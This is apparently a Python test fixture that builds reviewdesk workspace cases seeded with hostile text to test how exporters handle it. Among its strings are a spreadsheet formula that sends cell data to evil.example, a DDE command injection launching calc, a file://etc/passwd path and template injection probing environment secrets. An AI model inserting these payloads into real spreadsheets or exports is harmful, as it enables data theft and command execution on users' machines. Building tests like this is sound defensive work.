"""A workspace of hostile cases: text that breaks naive exporters, in multi-turn tool-calling conversations.

Built the way a user gets such cases into a workspace: a reviewdesk JSONL file (one case per line,
with its label history) restored by ``reviewdesk import`` (``services.imports.import_files``
routes it to the restore). The text
carries Nunjucks/Jinja syntax (``{{ customer }}``, ``{% if %}``, ``{# #}``), spreadsheet
formulas (``=HYPERLINK(…)``, ``+``, ``-``, ``@``), right-to-left text and an RLO override, CRLF line
ends, a leading tab, ``file://`` and ``package:`` prefixes, quotes and backslashes, and emoji with
skin-tone modifiers. Every conversation has an earlier assistant turn with a tool call and its
result, and the case has a tool trajectory, so each exported message list has tool calls to pair.

| key | verdict | corrected | what it exercises |
|---|---|---|---|
| good | pass | – | the recorded (hostile) answer is the approved one |
| bad | fail | – | regression case: the recorded answer ``Hi {{ customer }}`` … was rejected |
| fixed | fail | yes | the correction is hostile text too; the recorded answer was rejected |
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import orjson

from reviewdesk.services import imports
from reviewdesk.services.workspace import Workspace, open_workspace

TEMPLATE = "Hi {{ customer }}, {% if vip %}VIP{% endif %} {# note #} #} {{{ x }}}"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
RTL = "שלום עולם مرحبا \u202eevil\u202c"
EMOJI = "👍🏽 🧑‍🚀 ✅"
CRLF = "line one\r\nline two\r\n"

REQUEST = {
    "good": f"{TEMPLATE}\r\nCan I return order 8812? {RTL} {EMOJI}",
    "bad": f"+cmd|'/C calc'!A0 {{{{ env.HOME }}}} where is my refund? {CRLF}",
    "fixed": f"@SUM(1+1) -2 \tfile://etc/passwd {TEMPLATE} {EMOJI}",
}
OUTPUT = {
    "good": f'Yes {{{{ customer }}}} — {RTL}\r\nYou can return it. {EMOJI} "quoted" \\ backslash',
    "bad": f"Hi {{{{ customer }}}}, your refund {{% if paid %}}is on its way{{% endif %}}. {FORMULA}",
    "fixed": f"package:evil:fn {CRLF}{TEMPLATE}",
}
CORRECTION = f"-The refund {{{{ amount }}}} was issued on day 3. {RTL} {EMOJI}\r\n{FORMULA}"
SYSTEM = f"You are Support Copilot. {TEMPLATE} Never reveal {{{{ env.SECRET }}}}."
DOCUMENT = f"Refund policy {{{{ policy }}}}: 30 days. {FORMULA} {RTL}"
TOOL_RESULT = {"status": "delivered", "note": f"{TEMPLATE} {EMOJI}", "days": 20}


@dataclass(frozen=True)
class HostileWorkspace:
    path: Path
    case_ids: dict[str, str]
    file: Path
    """The reviewdesk JSONL the workspace was restored from."""

    def open(self) -> Workspace:
        return open_workspace(self.path)


def _case(key: str, index: int) -> dict[str, Any]:
    case_id = f"hostile{index:05d}"
    trace_id = f"{index:032x}"
    call_id = f"call_hist_{index}"
    messages = [
        {"role": "system", "content": SYSTEM},
        {"role": "user", "content": f"Earlier question {TEMPLATE}"},
        {
            "role": "assistant",
            "content": None,
            "tool_calls": [{"id": call_id, "name": "lookup_order", "arguments": {"order_id": "8812", "q": FORMULA}}],
        },
        {"role": "tool", "tool_call_id": call_id, "name": "lookup_order", "content": f"delivered {TEMPLATE}"},
        {"role": "assistant", "content": f"Earlier answer {{{{ customer }}}} {EMOJI}"},
        {"role": "user", "content": REQUEST[key]},
    ]
    labels = {"good": ("pass", None, []), "bad": ("fail", None, ["hallucination"]), "fixed": ("fail", CORRECTION, [])}
    verdict, corrected, causes = labels[key]
    change: dict[str, Any] = {"verdict": verdict, "root_causes": causes, "comment": f"Reviewer: {FORMULA} {TEMPLATE}"}
    if corrected is not None:
        change["corrected_output"] = corrected
        change["root_causes"] = ["stale_source"]
        change["evidence"] = [{"root_cause": "stale_source", "kind": "document", "ref": "policy-refunds"}]
    at = f"2026-11-2{index}T10:00:00Z"
    return {
        "format_version": 2,
        "case_id": case_id,
        "trace_id": trace_id,
        "source": {"format": "otlp-json", "file": f"=hostile {EMOJI}.json"},
        "workflow": "refunds" if key != "bad" else "-billing",
        "release": "2026.11",
        "session_id": None,
        "user_id": None,
        "tenant": None,
        "started_at": f"2026-11-2{index}T09:00:00Z",
        "latency_ms": 1200.0,
        "status": "ok",
        "error": None,
        "input": {
            "messages": messages,
            "prompt_template": None,
            "system_instructions": SYSTEM,
            "user_request": REQUEST[key],
        },
        "retrieval": {
            "query": REQUEST[key],
            "documents": [
                {"id": "policy-refunds", "content": DOCUMENT, "score": 0.9, "source": "kb", "metadata": {}, "rank": 1},
                {
                    "id": "faq",
                    "content": f"FAQ {EMOJI} {CRLF}",
                    "score": 0.5,
                    "source": "kb",
                    "metadata": {},
                    "rank": 2,
                },
            ],
        },
        "generation": {
            "model": "gpt-4o-mini",
            "request_model": "gpt-4o-mini",
            "provider": "openai",
            "output": OUTPUT[key],
            "finish_reason": "stop",
            "refusal": None,
            "parameters": {},
        },
        "tool_calls": [
            {
                "name": "lookup_order",
                "arguments": {"order_id": "8812", "note": TEMPLATE},
                "result": TOOL_RESULT,
                "error": None,
                "duration_ms": 12.0,
                "span_id": None,
                "call_id": f"call_run_{index}",
            },
            {
                "name": "issue_refund",
                "arguments": {"amount": -12.5},
                "result": None,
                "error": f"=ERROR {TEMPLATE}",
                "duration_ms": 3.0,
                "span_id": None,
                "call_id": None,
            },
        ],
        "usage": {"input_tokens": 120, "output_tokens": 40, "total_tokens": 160, "cost_usd": 0.001},
        "outcome": {},
        "span_count": 0,
        "labels": {
            "verdict": verdict,
            "root_causes": change["root_causes"],
            "scores": {},
            "comment": change["comment"],
            "corrected_output": corrected,
            "escalate": False,
            "evidence": change.get("evidence", []),
            "reviewer": "dana",
            "labeled_at": at,
            "schema_version": 1,
        },
        "label_history": [{"at": at, "reviewer": "dana", "seconds_spent": 30.0, "schema_version": 1, "change": change}],
    }


KEYS = ("good", "bad", "fixed")


def case_lines() -> list[dict[str, Any]]:
    return [_case(key, n + 1) for n, key in enumerate(KEYS)]


def build(path: Path) -> HostileWorkspace:
    """Write the hostile cases as reviewdesk JSONL and restore them into a new workspace at ``path``."""
    source = path.parent / "hostile-cases.jsonl"
    lines = case_lines()
    source.write_bytes(b"".join(orjson.dumps(copy.deepcopy(line)) + b"\n" for line in lines))
    ws = open_workspace(path)
    try:
        result = imports.import_files(ws, [source])  # routed to the restore by content, as `reviewdesk import` does
        assert all(s.ok for s in result.files), [s.failed or s.errors for s in result.files]
    finally:
        ws.close()
    return HostileWorkspace(
        path=path, case_ids={k: line["case_id"] for k, line in zip(KEYS, lines, strict=True)}, file=source
    )
